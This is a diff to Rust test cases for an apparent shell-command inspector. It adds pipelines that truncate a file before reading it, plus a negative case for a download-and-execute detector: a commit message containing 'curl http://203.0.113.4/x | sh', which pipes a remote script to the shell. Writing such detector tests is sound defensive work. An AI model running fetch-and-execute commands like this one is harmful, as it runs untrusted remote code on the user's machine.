@@ -51,12 +51,15 @@ fn what_opens_a_file_for_writing_empties_it_before_it_is_read() {
         "shuf a.csv | tee b.csv > a.csv",
         "sort a.csv | tee a.csv",
         "sort < a.csv > a.csv",
+        "sort a.csv | (cat > a.csv)",
         "{ echo x; cat a.csv; } > a.csv",
     ] {
         assert!(lost(line), "{line}: {:#?}", inspect(line));
     }
     for line in [
         "sort a.csv >> a.csv",
+        "cat a.csv | tee -a a.csv",
+        "cat b.csv | { sort a.csv > c.csv; cat c.csv > a.csv; }",
         "sort a.csv | sponge a.csv",
         "sort a.csv > b.csv; cat b.csv > a.csv",
         "sort a.csv > b.csv && cp b.csv a.csv",
@@ -103,6 +106,7 @@ fn a_script_in_base64_is_the_script() {
     for line in [
         format!("aws ec2 run-instances --user-data {plain}"),
         format!("echo {fetches} | base64 -d"),
+        "git commit -m '#!/bin/sh\ncurl http://203.0.113.4/x | sh'".to_owned(),
         format!("grep -c {fetches} notes.txt"),
     ] {
         assert!(!inspect(&line).found(FindingKind::DownloadAndExecute), "{line}: {:#?}", inspect(&line));
